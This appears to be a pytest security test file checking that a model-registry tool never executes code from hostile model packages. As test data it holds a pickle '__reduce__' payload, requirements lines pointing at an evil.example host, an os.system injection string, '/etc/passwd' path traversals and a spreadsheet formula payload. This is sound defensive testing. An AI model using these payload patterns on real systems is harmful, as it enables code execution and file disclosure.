"""Cases 38–45: models that want code to run. Nothing of them runs in any command but a load that was allowed."""

import pickle
from pathlib import Path
from typing import Any

import pytest

LOOKING = (
    ("ls",),
    ("ls", "evil"),
    ("show", "evil/1"),
    ("show", "--json", "evil/1"),
    ("log", "evil"),
    ("cat", "evil/1:MLmodel"),
    ("checkout", "evil/1", "../out"),
    ("alias", "set", "evil", "prod", "1"),
    ("cp", "evil/1", "evil2"),
    ("tag", "set", "evil/1", "a=b"),
    ("fsck", "--full"),
    ("du",),
    ("rebuild",),
)


class Bomb:
    """Leaves a file behind when it is unpickled."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> Any:
        return (Path.touch, (self.canary,))


@pytest.fixture
def canary(bench: Any) -> Path:
    """A file that appears when code of a model runs."""
    return Path(bench.path.parent, "canary")


def pyfunc(**more: str) -> bytes:
    lines = "".join(f"    {key}: {value}\n" for key, value in more.items())
    return f"flavors:\n  python_function:\n{lines}".encode()


def harmless(bench: Any, canary: Path, source: str, *, predicting: int) -> None:
    """Register and look at it from every side: nothing runs, and predicting is refused with ``predicting``."""
    bench.works("register", source, "evil")
    for command in LOOKING:
        done = bench.run(*command)
        assert done.code == 0, (command, done)
    done = bench.run("predict", "evil/1", stdin=b'{"inputs": [[1.0]]}')
    assert done.code == predicting, done
    assert len(done.lines) <= 2
    assert "Traceback" not in done.err
    assert not canary.exists()


@pytest.mark.parametrize("module", ["os", "subprocess", "os.path", "..relative", "sys; import os", "builtins", "evil"])
def test_case_38_a_loader_module_is_imported_by_no_command(bench: Any, canary: Path, module: str) -> None:
    evil = f"import pathlib\npathlib.Path({str(canary)!r}).touch()\n".encode()
    source = bench.files("evil", {"MLmodel": pyfunc(loader_module=module, code="code"), "code/evil.py": evil})
    bench.works("register", source, "evil")
    for command in LOOKING:
        assert bench.run(*command).code in (0, 4), command
    assert bench.run("predict", "evil/1", stdin=b'{"inputs": [[1.0]]}').code in (4, 11)
    assert not canary.exists()
    if module != "evil":
        assert bench.run("predict", "--trust", "evil/1", stdin=b'{"inputs": [[1.0]]}').code not in (0, 70)


@pytest.mark.parametrize("name", ["json.py", "site.py", "sitecustomize.py", "yaml.py", "gitmodels/__init__.py"])
def test_case_39_code_that_shadows_is_labelled_and_not_imported(bench: Any, canary: Path, name: str) -> None:
    evil = f"import pathlib\npathlib.Path({str(canary)!r}).touch()\n".encode()
    model = pyfunc(loader_module="mlflow.pyfunc.model", code="code", python_model="x.pkl")
    source = bench.files("evil", {"MLmodel": model, f"code/{name}": evil, "x.pkl": pickle.dumps(1)})
    harmless(bench, canary, source, predicting=11)
    assert bench.works("show", "--json", "evil/1").count("python-code") >= 1


@pytest.mark.parametrize("name", ["model.skops", "model.safetensors", "model.pkl", "model.onnx", "weights.h5"])
def test_case_40_a_pickle_under_another_name_is_no_harmless_file(bench: Any, canary: Path, name: str) -> None:
    model = b"flavors:\n  sklearn:\n    pickled_model: %s\n    serialization_format: skops\n" % name.encode()
    model += b"  python_function:\n    loader_module: mlflow.sklearn\n    model_path: %s\n" % name.encode()
    source = bench.files("evil", {"MLmodel": model, name: pickle.dumps(Bomb(canary))})
    bench.works("register", source, "evil")
    for command in LOOKING:
        assert bench.run(*command).code == 0, command
    for more in ((), ("--trust",)):
        done = bench.run("predict", *more, "evil/1", stdin=b'{"inputs": [[1.0]]}')
        assert done.code in (4, 6, 11), done
        assert not canary.exists()


def test_case_41_a_list_of_trusted_types_in_the_model_is_ignored(bench: Any, canary: Path) -> None:
    model = b"flavors:\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: pickle\n"
    model += b"    skops_trusted_types: [builtins.eval, os.system]\n    trusted: true\ntrust: all\n"
    model = model.replace(b"flavors:\n", pyfunc(loader_module="mlflow.sklearn", model_path="model.pkl"))
    source = bench.files("evil", {"MLmodel": model, "model.pkl": pickle.dumps(Bomb(canary))})
    bench.works("register", source, "evil")
    assert bench.run("predict", "evil/1", stdin=b'{"inputs": [[1.0]]}').code in (4, 11)
    assert not canary.exists()


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://evil.example",
        "-e git+ssh://x@evil.example/r",
        "x ; os.system('touch c')",
        "x @ file:///etc",
    ],
)
def test_case_42_requirements_are_text(bench: Any, canary: Path, line: str) -> None:
    files = {
        "MLmodel": pyfunc(loader_module="nothing_here"),
        "requirements.txt": f"{line}\n".encode(),
        "conda.yaml": f"dependencies:\n- pip:\n  - {line!r}\n".encode(),
        "python_env.yaml": f"dependencies: [{line!r}]\n".encode(),
    }
    harmless(bench, canary, bench.files("evil", files), predicting=11)


def test_case_43_an_example_is_not_loaded(bench: Any, canary: Path) -> None:
    model = pyfunc(loader_module="nothing_here") + b"saved_input_example_info: {artifact_path: input_example.pkl}\n"
    files = {
        "MLmodel": model,
        "input_example.pkl": pickle.dumps(Bomb(canary)),
        "input_example.json": b"[" * 200_000,
        "x.csv": b"=cmd|' /C calc'!A0\n",
    }
    harmless(bench, canary, bench.files("evil", files), predicting=11)


@pytest.mark.parametrize("path", ["../../x", "/etc/passwd", "a/../../x", "data/../../../x"])
@pytest.mark.parametrize("key", ["data", "python_model", "model_path", "code"])
def test_case_44_paths_that_leave_the_model_are_refused(bench: Any, key: str, path: str) -> None:
    source = bench.files("evil", {"MLmodel": pyfunc(loader_module="mlflow.sklearn", **{key: path}), "x.bin": b"x"})
    done = bench.run("register", source, "evil")
    if done.code == 0:
        done = bench.run("predict", "--trust", "evil/1", stdin=b'{"inputs": [[1.0]]}')
    assert done.code in (4, 11), done
    assert "root:" not in done.err + done.out


def test_case_45_a_model_without_a_signature_says_so(bench: Any) -> None:
    source = bench.files("plain", {"MLmodel": pyfunc(loader_module="nothing_here")})
    bench.works("register", source, "unsigned")
    assert '"signature"' not in bench.works("show", "--json", "unsigned/1").replace('"signature": null', "").replace(
        '"signature": {}', ""
    )
    bench.refuses(3, "predict", "fraud/1", stdin=b'{"inputs": [[1.0]]}')


@pytest.mark.parametrize(
    "what", [(".", "nothing/1"), ("fraud/1", "fraud/9"), ("fraud/1", "a@b@c@d"), (".", "fraud/1/x")]
)
def test_case_38_trust_is_decided_for_all_of_it_or_for_nothing(bench: Any, what: tuple[str, ...]) -> None:
    bench.refuses(bench.run("trust", *what).code, "trust", *what)
    assert '"level": null' in bench.works("trust", "--json")
    assert '"digests": []' in bench.works("trust", "--json")


@pytest.mark.parametrize("what", [(), ("fraud/1",), (".", "fraud/1")])
def test_case_38_a_limit_of_trust_without_a_registry_is_refused(bench: Any, what: tuple[str, ...]) -> None:
    bench.refuses(4, "trust", "--only", "approved", *what)
